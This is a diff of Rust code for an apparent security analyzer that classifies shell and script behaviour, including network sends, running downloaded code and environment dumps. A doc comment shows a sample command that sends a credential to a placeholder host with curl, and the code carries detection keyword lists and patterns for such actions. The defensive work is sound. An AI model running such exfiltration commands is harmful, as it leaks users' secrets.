@@ -2,6 +2,9 @@
 
 use std::rc::Rc;
 
+use super::languages::{
+    is_bare_shell, language_of, name_of, reaches_out, shebang, shows_environment, unread,
+};
 use super::manifest::recipes;
 use super::program::COMPUTED_PROGRAM;
 use super::target::{Manner, carry};
@@ -34,6 +37,7 @@ impl Engine<'_> {
             }
         }
         let mut output = Data::default();
+        let before = self.actions.len();
         let candidates = word.value.candidates();
         let several = candidates.len() > 1;
         for candidate in candidates {
@@ -84,7 +88,23 @@ impl Engine<'_> {
                 }
             }
         }
+        self.sends_what_is_put_in(word, before);
         output
+    }
+
+    /// A credential that is put into code leaves with what the code asks for: `xargs -I{} sh -c 'curl HOST/{}'`.
+    fn sends_what_is_put_in(&mut self, code: &Word, before: usize) {
+        let Some(data) = code.data.as_ref().filter(|data| !data.secrets.is_empty()) else {
+            return;
+        };
+        for action in self.actions.iter_mut().skip(before) {
+            if matches!(action.kind, ActionKind::NetFetch | ActionKind::NetSend)
+                && !action.has("loopback")
+            {
+                action.kind = ActionKind::NetSend;
+                carry(action, data, self.context);
+            }
+        }
     }
 
     fn code_text(
@@ -166,7 +186,11 @@ impl Engine<'_> {
             let stored = request.stored(&effect);
             output.merge(&self.code_effect(effect, origin, by, &deeper));
             if let Some((file, data)) = stored {
-                let word = Word::made(Value::Exact(file.replace('\\', "/")), origin.clone());
+                let file = match file {
+                    Value::Exact(path) => Value::Exact(path.replace('\\', "/")),
+                    other => other,
+                };
+                let word = Word::made(file, origin.clone());
                 self.remember(&word, &data, &deeper);
             }
         }
@@ -219,11 +243,12 @@ impl Engine<'_> {
     fn told_by_peer(&mut self, first: usize, here: &Situation) {
         let of = self.actions.get(first..).unwrap_or_default();
         let unnamed = of.iter().any(|action| {
-            action.kind == ActionKind::Unknown
-                && action
-                    .reason
-                    .as_deref()
-                    .is_some_and(|reason| reason.starts_with(COMPUTED_PROGRAM))
+            action.kind == ActionKind::ExecDynamic
+                || action.kind == ActionKind::Unknown
+                    && action
+                        .reason
+                        .as_deref()
+                        .is_some_and(|reason| reason.starts_with(COMPUTED_PROGRAM))
         });
         let peer = of.iter().find(|action| {
             let address = action.target.value.as_str();
@@ -450,6 +475,15 @@ impl Engine<'_> {
 
     /// A file with code.
     pub fn script(&mut self, language: &str, file: &Word, by: &str, here: &Situation) -> Data {
+        let (text, _) = file.known();
+        if text.starts_with("https://") || text.starts_with("http://") {
+            let served = Data {
+                urls: vec![Rc::from(text)],
+                ..Data::opaque()
+            };
+            self.remote_code(&served, by, here);
+            return Data::opaque();
+        }
         if let Some(data) = &file.data {
             // `bash <(…)`: the file is what those commands write.
             let data = Rc::clone(data);
@@ -472,20 +506,20 @@ impl Engine<'_> {
                 self.unknown_kind(ActionKind::ExecDynamic, reason, by, here);
                 return Data::opaque();
             }
-            if let Some(path) = self.absolute(text, here)
-                && here.on.is_none()
+        }
+        if let Some(located) = self.located(file, here) {
+            if located.whole
+                && let Some(data) = self.written(&located.path).cloned()
             {
-                if let Some(data) = self.written(&path).cloned() {
-                    return self.written_script(language, file, &data, by, here);
-                }
-                if self.is_below_download(&path) {
-                    let manner = Manner {
-                        attributes: vec!["downloaded"],
-                        ..Manner::of(ActionKind::ExecLocal, Role::Path, by)
-                    };
-                    self.act(&manner, file, here);
-                    return Data::opaque();
-                }
+                return self.written_script(language, file, &data, by, here);
+            }
+            if self.is_of_download(&located.path) {
+                let manner = Manner {
+                    attributes: vec!["downloaded"],
+                    ..Manner::of(ActionKind::ExecLocal, Role::Path, by)
+                };
+                self.act(&manner, file, here);
+                return Data::opaque();
             }
         }
         self.path(ActionKind::ExecLocal, file, by, here);
@@ -535,187 +569,44 @@ impl Engine<'_> {
         }
     }
 
-    /// A file that code runs, when the call downloaded or decoded it.
-    fn runs_written(&mut self, file: &Word, by: &str, here: &Situation) {
-        let path = file.exact().map(|path| path.replace('\\', "/"));
-        let path = path.and_then(|path| self.absolute(&path, here));
-        let data = path.and_then(|path| self.written(&path).cloned());
-        if let Some(data) = data.filter(|data| !data.urls.is_empty() || data.decoded) {
-            self.code_data("shell", &data, by, here);
-        }
-    }
-
-    /// Whether the call downloaded that file.
-    pub fn is_downloaded(&self, file: &Word, here: &Situation) -> bool {
-        !self.files.is_empty()
-            && file
-                .exact()
-                .and_then(|path| self.absolute(path, here))
-                .and_then(|path| self.written(&path))
-                .is_some_and(|data| !data.urls.is_empty())
-    }
-
-    /// Whether the working directory was downloaded by the call.
-    pub fn is_in_download(&self, here: &Situation) -> bool {
-        !self.files.is_empty()
-            && here.on.is_none()
-            && here.cwd.exact().is_some_and(|cwd| {
-                self.is_below_download(cwd)
-                    || self.written(cwd).is_some_and(|data| !data.urls.is_empty())
-            })
-    }
-
-    /// Remembers that a name leads to another file.
-    pub fn link(&mut self, target: Option<&Word>, names: &[Word], here: &Situation) {
-        let (Some(target), Some(name)) = (target, names.first()) else {
-            return;
-        };
-        let Some(target) = target.exact().and_then(|path| self.absolute(path, here)) else {
-            return;
-        };
-        let Some(mut name) = name.exact().and_then(|path| self.absolute(path, here)) else {
-            return;
-        };
-        if here.cwd.exact() == Some(name.as_str()) {
-            name.push('/');
-            name.push_str(target.rsplit('/').next().unwrap_or_default());
-        }
-        if name != target && self.links.len() < super::MAX_FILES {
-            self.links.push((name, target));
-        }
-    }
-
-    /// Whether the call downloaded a folder that holds the path.
-    fn is_below_download(&self, path: &str) -> bool {
-        self.files.iter().any(|(folder, data)| {
-            !data.urls.is_empty()
-                && crate::actions::place::below(path, folder).is_some_and(|rest| !rest.is_empty())
-        })
-    }
-
     /// Why a word is not known, for people.
     pub fn reason_of(word: &Word) -> String {
         why_text(&why_of(&word.value)).into_owned()
     }
 }
 
-/// The language a script asks for in its first line.
-#[must_use]
-pub fn shebang(text: &str) -> Option<&'static str> {
-    let line = text.strip_prefix("#!")?.lines().next()?;
-    let mut words = line.split_whitespace();
-    let mut program = words.next()?.rsplit('/').next()?;
-    if program == "env" {
-        program = words.find(|word| !word.starts_with('-'))?;
-    }
-    let name = program.trim_end_matches(|letter: char| letter.is_ascii_digit() || letter == '.');
-    Some(match name {
-        "python" => "python",
-        "node" | "deno" | "bun" => "javascript",
-        "perl" => "perl",
-        "ruby" => "ruby",
-        "php" => "php",
-        "lua" => "lua",
-        "awk" | "gawk" | "mawk" => "awk",
-        "sed" => "sed",
-        "pwsh" => "powershell",
-        "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash" => "shell",
-        _ => "other",
-    })
-}
-
-/// Whether code of a language that nobody here reads has a word in it by which code leaves its own process.
-fn reaches_out(text: &str) -> bool {
-    const WORDS: [&str; 26] = [
-        "system", "shell", "exec", "spawn", "popen", "process", "command", "cmd", "eval", "load",
-        "require", "import", "open", "file", "delete", "remove", "unlink", "rmdir", "write",
-        "socket", "http", "connect", "url", "fetch", "call", "/",
-    ];
-    let lower = text.to_ascii_lowercase();
-    WORDS.iter().any(|word| lower.contains(word))
-}
-
-/// Whether code takes the whole environment, and not one variable of it.
-fn shows_environment(language: &str, text: &str) -> bool {
-    let (name, one): (&str, &[&str]) = match language {
-        "javascript" => ("process.env", &[".", "[", "?"]),
-        "ruby" => ("ENV", &["[", ".fetch", ".key", "."]),
-        "awk" => ("in ENVIRON", &["["]),
-        "perl" => ("%ENV", &[]),
-        _ => return false,
-    };
-    let whole = [
-        "ENV.to_h",
-        "ENV.each",
-        "ENV.map",
-        "ENV.inspect",
-        "ENV.sort",
-        "ENV.to_a",
-    ];
-    if language == "ruby" && whole.iter().any(|all| text.contains(all)) {
-        return true;
-    }
-    text.match_indices(name).any(|(at, _)| {
-        let is_name = |one: char| one.is_ascii_alphanumeric() || one == '_';
-        let before = text[..at].chars().next_back();
-        let rest = &text[at + name.len()..];
-        !before.is_some_and(is_name)
-            && !rest.starts_with(is_name)
-            && !one.iter().any(|part| rest.trim_start().starts_with(part))
-            && (language == "awk" || language == "perl" || text.len() < 200)
-    })
-}
-
 /// A request and the file that its answer is stored in, which the same piece of code names.
 #[derive(Default)]
 struct Request {
     fetched: Option<(ByteSpan, Data)>,
-    written: Option<(ByteSpan, String)>,
+    written: Option<(ByteSpan, Value)>,
 }
 
 impl Request {
     /// The file that an effect, with one before it, stores an answer in, and where that comes from.
-    fn stored(&mut self, effect: &CodeEffect) -> Option<(String, Data)> {
+    fn stored(&mut self, effect: &CodeEffect) -> Option<(Value, Data)> {
         let What::Act {
             kind,
-            target: Some(Value::Exact(target)),
+            target: Some(target),
             ..
         } = &effect.what
         else {
             return None;
         };
-        match kind {
-            ActionKind::NetFetch => {
+        match (kind, target) {
+            (ActionKind::NetFetch, Value::Exact(url)) => {
                 let data = Data {
-                    urls: vec![Rc::from(target.as_str())],
+                    urls: vec![Rc::from(url.as_str())],
                     ..Data::opaque()
                 };
                 self.fetched = Some((effect.span, data));
             }
-            ActionKind::FsWrite => self.written = Some((effect.span, target.clone())),
+            (ActionKind::FsWrite, _) => self.written = Some((effect.span, target.clone())),
             _ => return None,
         }
         let (asked, data) = self.fetched.as_ref()?;
         let (put, file) = self.written.as_ref()?;
         (asked == put).then(|| (file.clone(), data.clone()))
-    }
-}
-
-/// Whether a command line is a shell's name with nothing but flags.
-fn is_bare_shell(text: &str) -> bool {
-    let mut words = text.split_whitespace();
-    let name = words.next().and_then(|word| word.rsplit('/').next());
-    matches!(
-        name,
-        Some("sh" | "bash" | "dash" | "zsh" | "ksh" | "ash" | "fish" | "csh" | "tcsh")
-    ) && words.all(|word| matches!(word, "-i" | "-p" | "-l" | "-il" | "-li" | "--login"))
-}
-
-/// What it is to run text that cannot be read: queries change data, everything else may do anything.
-fn unread(language: &str) -> ActionKind {
-    match language {
-        "sql" | "mongo" | "redis" => ActionKind::Unknown,
-        _ => ActionKind::ExecDynamic,
     }
 }
 
@@ -726,39 +617,4 @@ fn role_of(role: TargetRole) -> Role {
         TargetRole::Host => Role::Host,
         TargetRole::Name => Role::Name,
     }
-}
-
-const LANGUAGES: [(&str, Language); 19] = [
-    ("python", Language::Python),
-    ("javascript", Language::JavaScript),
-    ("perl", Language::Perl),
-    ("ruby", Language::Ruby),
-    ("php", Language::Php),
-    ("lua", Language::Lua),
-    ("r", Language::R),
-    ("julia", Language::Julia),
-    ("elisp", Language::Elisp),
-    ("applescript", Language::AppleScript),
-    ("awk", Language::Awk),
-    ("sed", Language::Sed),
-    ("ex", Language::Ex),
-    ("sql", Language::Sql),
-    ("m4", Language::M4),
-    ("mongo", Language::Mongo),
-    ("redis", Language::Redis),
-    ("powershell", Language::PowerShell),
-    ("cmd", Language::Cmd),
-];
-
-fn language_of(name: &str) -> Option<Language> {
-    LANGUAGES
-        .into_iter()
-        .find_map(|(held, language)| (held == name).then_some(language))
-}
-
-fn name_of(language: Language) -> &'static str {
-    LANGUAGES
-        .into_iter()
-        .find_map(|(name, held)| (held == language).then_some(name))
-        .unwrap_or("other")
 }
